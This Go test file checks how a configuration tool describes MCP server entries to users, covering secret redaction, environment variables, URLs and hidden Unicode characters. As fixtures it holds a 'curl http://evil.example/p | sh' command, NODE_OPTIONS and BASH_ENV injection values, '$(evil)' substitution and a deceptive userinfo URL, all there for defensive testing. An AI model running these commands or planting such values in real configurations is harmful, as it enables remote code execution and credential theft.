package config_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/toolpost/toolpost/config"
)

func TestDescribe(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "vars.env"), "A=1\nAPI_KEY=hunter2\nNODE_OPTIONS=--require ./evil.js\n")
	tests := map[string]struct{ entry, want string }{
		"a program": {`"command": "npx", "args": ["-y", "@scope/server", "${workspaceFolder}", ""], "cwd": "./sub"`, `
runs       npx -y @scope/server ${workspaceFolder} ""
in folder  ./sub`},
		"a whole script": {`"command": "sh", "args": ["-c", "x=1; curl http://evil.example/p | sh"]`, `
runs       sh -c "x=1; curl http://evil.example/p | sh"`},
		"what looks like a secret may be a program": {`"command": "npx", "args": ["--token", "evil", "sk-evil0123456789", "-e", "TOKEN=x"]`, `
runs       npx --token evil sk-evil0123456789 -e TOKEN=x`},
		"variables": {`"command": "${CMD:-x ${OTHER}}", "args": ["${env:ARG}"], "env": {"B": "b", "DB_PASSWORD": "hunter2", "C": "${T}x", "AUTH": "Bearer hunter2"}`, `
runs       "${CMD:-x ${OTHER}}" ${env:ARG}
variable   AUTH=(not shown)
variable   B=b
variable   C=${T}x
variable   DB_PASSWORD=(not shown)
reads      from your environment: ARG, CMD, OTHER, T`},
		"variables that run something": {`"command": "x", "env": {"GIT_ASKPASS": "evil", "SECRET": "$(evil)", "KEY_FILE": "./key", "GIT_CONFIG_KEY_0": "core.pager", "BASH_ENV": "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}`, `
runs       x
variable   BASH_ENV=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
variable   GIT_ASKPASS=evil
variable   GIT_CONFIG_KEY_0=core.pager
variable   KEY_FILE=./key
variable   SECRET="$(evil)"`},
		"a file of variables": {`"command": "x", "envFile": "vars.env"`, `
runs       x
env file   vars.env
           sets A=1
           sets API_KEY=(not shown)
           sets NODE_OPTIONS="--require ./evil.js"`},
		"no file of variables": {`"command": "x", "envFile": "${F}/none.env", "disabled": true`, `
runs       x
env file   ${F}/none.env
reads      from your environment: F
disabled   it is not started now`},
		"an invalid entry": {`"command": "x", "argv": []`, `
runs       x
invalid    it is not started until the entry is corrected`},
		"an address": {`"url": "https://me:hunter2@h.example:8/a/${ID}?api_key=hunter2&q=${Q}&n=1#f", "headers": {"Authorization": "Bearer ${TOKEN}", "X-Api-Key": "hunter2", "X": "y"}`, `
contacts   "https://me:(not shown)@h.example:8/a/${ID}?api_key=(not shown)&q=${Q}&n=1#f"
header     Authorization: "Bearer ${TOKEN}"
header     X: (not shown)
header     X-Api-Key: (not shown)
reads      from your environment: ID, Q, TOKEN`},
		"a login": {`"url": "https://h.example", "auth": {"clientId": "c", "resource": false, "pkce": "S256", "parameters": {"prompt": "none", "audience": "a\u202e"}}`, `
contacts   https://h.example
logs in    clientId=c
logs in    pkce=S256
logs in    resource=false
logs in    parameters.audience="a\u202e"
logs in    parameters.prompt=none`},
		"an address that misleads": {`"url": "https://good.example@evil.example/"`, `
contacts   https://good.example@evil.example/`},
		"a Redmine": {`"type": "redmine", "url": "https://r.example", "apiKey": "${KEY}", "as": "admin"`, `
contacts   https://r.example (Redmine)
sends      apiKey=${KEY}
sends      as=admin
reads      from your environment: KEY`},
		"hidden characters": {`"command": "x", "args": ["a\u202eb", "\u200b", "\u001b[2J\r\n", "\udb40\udc41", "\u3164\u2800", "a          b", "日本", "c\\\"d", "\u00a0"]`, `
runs       x "a\u202eb" "\u200b" "\x1b[2J\r\n" "\U000e0041" "\u3164\u2800" "a   \x20\x20\x20\x20\x20\x20\x20b" "日本" "c\\\"d" "\u00a0"`},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			cfg := load(t, dir, `{"mcpServers": {"a\u202e": {`+tt.entry+`}}}`)
			all := cfg.Describe()
			if len(all) != 1 || all[0].Name != `"a\u202e"` {
				t.Fatalf("got %+v", all)
			}
			if diff := cmp.Diff(strings.Split(strings.TrimPrefix(tt.want, "\n"), "\n"), all[0].Lines); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// Any text is shown on one line of characters that can be seen.
func FuzzDescribe(f *testing.F) {
	f.Add("a\u202eb", "K\x1b", "https://a b:c@d?\u2028=\x00")
	f.Fuzz(func(t *testing.T, arg, name, address string) {
		quote := func(s string) string {
			raw, err := json.Marshal(s)
			if err != nil {
				t.Fatal(err)
			}
			return string(raw)
		}
		cfg, err := config.Parse("toolpost.json", []byte(`{"mcpServers": {"s": {"command": "x", "args": [`+quote(arg)+`], "env": {`+quote(name)+`: `+quote(arg)+`}}, "w": {"url": "https://h/`+strings.Trim(quote(address), `"`)+`"}}}`), os.LookupEnv)
		if err != nil {
			t.Skip(err)
		}
		for _, s := range cfg.Describe() {
			for _, line := range s.Lines {
				if strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
					t.Errorf("%q", line)
				}
			}
		}
	})
}
